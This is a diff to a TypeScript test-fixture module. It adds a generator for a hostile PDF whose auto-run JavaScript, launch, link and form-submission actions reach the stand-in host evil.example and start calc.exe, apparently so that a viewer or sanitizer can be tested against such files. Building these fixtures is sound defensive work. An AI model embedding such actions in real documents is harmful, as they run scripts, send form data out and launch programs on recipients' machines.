@@ -193,6 +193,41 @@ function* hostilePdfs(): Generator<HostileFile> {
   };
 }
 
+/** A pdf of two pages that tries to run scripts, to start programs, and to reach `https://evil.example` in every way a viewer may follow. */
+export function actingPdf(): Uint8Array {
+  const evil = 'https://evil.example';
+  const script = `app.alert('pdf'); this.getURL('${evil}/script'); this.submitForm('${evil}/form');`;
+  const actions = [
+    `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
+    `<< /S /URI /URI (${evil}/uri) >>`,
+    '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
+    '<< /S /Launch /F (calc.exe) >>',
+    `<< /S /GoToR /F << /FS /URL /F (${evil}/other.pdf) >> /D [0 /Fit] /NewWindow true >>`,
+    `<< /S /SubmitForm /F << /FS /URL /F (${evil}/submit) >> /Flags 4 >>`,
+    `<< /S /ImportData /F << /FS /URL /F (${evil}/data) >> >>`,
+    '<< /S /Named /N /Print >>',
+  ];
+  const [opening = ''] = actions;
+  const events = actions.map(
+    (action, index) => `/${['O', 'C', 'WC', 'WS', 'DS', 'WP', 'DP', 'X'][index]} ${action}`,
+  );
+  const links = actions.map(
+    (action, index) =>
+      `<< /Type /Annot /Subtype /Link /Rect [50 ${700 - index * 60} 545 ${750 - index * 60}] /Border [0 0 1] /A ${action} /AA << /PO ${opening} /PV ${opening} /E ${opening} >> >>`,
+  );
+  const button = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [50 100 545 200] /MK << /CA (Press) >> /A ${opening} >>`;
+  const texts = [{ text: 'This file acts', x: 60, y: 780, size: 24 }];
+  return pdfOf(
+    [
+      { texts, annotations: [...links, button] },
+      { texts, annotations: links },
+    ],
+    {
+      catalog: `/OpenAction ${opening} /AA << ${events.join(' ')} >> /URI << /Base (${evil}/) >> /Names << /JavaScript << /Names [(a) ${opening}] >> >> /AcroForm << /NeedAppearances true /Fields [] >> `,
+    },
+  );
+}
+
 function* mixedFiles(): Generator<HostileFile> {
   const pdf = pdfOf([{ texts: [{ text: 'Both a pdf and an archive', x: 50, y: 700 }] }]);
   const docx = docxWith(partOf(documentPart, `${openBody}<w:p><w:r><w:t>Both</w:t></w:r></w:p>${closeBody}`));
